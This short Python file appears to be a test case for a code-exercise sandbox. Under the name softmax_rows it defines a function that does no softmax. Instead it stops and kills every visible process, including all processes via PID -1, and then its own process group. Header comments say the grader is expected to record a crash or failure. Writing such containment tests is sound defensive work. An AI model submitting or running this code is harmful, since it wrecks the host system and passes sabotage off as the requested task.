# tries: every process that can be seen is stopped and then killed
# must: softmax_rows=crashed|timeout|failed *=not_attempted|crashed
# gains: 0

# %% exercise="softmax_rows"
import os
import signal

def softmax_rows(x):
    for number in (signal.SIGSTOP, signal.SIGKILL):
        for pid in (-1, *(int(name) for name in os.listdir("/proc") if name.isdigit())):
            try:
                if pid != os.getpid():
                    os.kill(pid, number)
            except OSError:
                pass
    os.killpg(0, signal.SIGKILL)
